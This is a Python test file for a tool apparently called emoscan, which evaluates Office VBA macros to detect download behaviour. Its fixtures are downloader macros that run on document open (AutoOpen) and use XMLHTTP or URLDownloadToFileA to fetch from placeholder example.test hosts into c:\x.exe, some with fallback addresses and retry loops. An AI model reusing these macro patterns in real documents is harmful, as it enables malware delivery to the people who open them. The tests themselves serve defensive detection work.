"""The ways a project is run in, to see what it would do."""

from __future__ import annotations

from typing import Any

import pytest

from emoscan.budget import Budget, Limits
from emoscan.evaluate.vba.run import evaluate
from emoscan.model import Fact
from emoscan.parse.bundle import Document, Module, VbaProject

REQUEST = """
    Set h = CreateObject("MSXML2.XMLHTTP")
    h.Open "GET", address, False
    h.Send
"""
FIRST, SECOND = "http://one.example.test/", "http://two.example.test/"


def downloads(source: str, limits: Limits | None = None) -> list[str]:
    emitted: list[Any] = []
    project = VbaProject((Module("ThisDocument", source, "document"),), document=Document(host="word"))
    evaluate(project, Budget(limits or Limits(seconds=60)), emitted.append)
    found = [item.value for item in emitted if isinstance(item, Fact) and item.kind == "effect.download"]
    return list(dict.fromkeys(found))


@pytest.mark.parametrize(
    "source",
    [
        f"""Sub AutoOpen()
        For Each address In Array("{FIRST}", "{SECOND}")
            {REQUEST}
            If h.Status = 200 Then Exit Sub
        Next
        End Sub""",
        f"""Private Declare Function URLDownloadToFileA Lib "urlmon" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long
        Sub AutoOpen()
        If URLDownloadToFileA(0, "{FIRST}", "c:\\x.exe", 0, 0) <> 0 Then URLDownloadToFileA 0, "{SECOND}", "c:\\x.exe", 0, 0
        End Sub""",
    ],
)
def test_the_addresses_tried_when_the_first_fails(source):
    assert downloads(source) == [FIRST, SECOND]


def test_a_script_that_tries_for_ever_is_left():
    source = f'Sub AutoOpen()\naddress = "{FIRST}"\nDo{REQUEST}\nLoop Until h.Status = 200\nEnd Sub'
    assert downloads(source) == [FIRST]


@pytest.mark.parametrize(
    "loop",
    [
        "For i = 1 To 100000\nFor j = 1 To 50: s = Chr(65): Next\nNext",
        "For i = 1 To 100000\nWork\nNext",
        "For i = 1 To 100000\nWork\ni = i + 0\nNext",
        "Dim many(100000)\nFor Each i In many\nWork\nNext",
    ],
)
def test_what_comes_behind_long_loops_is_seen(loop):
    """Most is spent in what the loop's body calls, not in its own rounds."""
    work = "Sub Work()\nDim j\nFor j = 1 To 50: s = Chr(65): Next\nEnd Sub\n"
    source = f'{work}Sub AutoOpen()\n{loop}\naddress = "{FIRST}"{REQUEST}\nEnd Sub'
    assert downloads(source, Limits(seconds=60, operations=300_000)) == [FIRST]
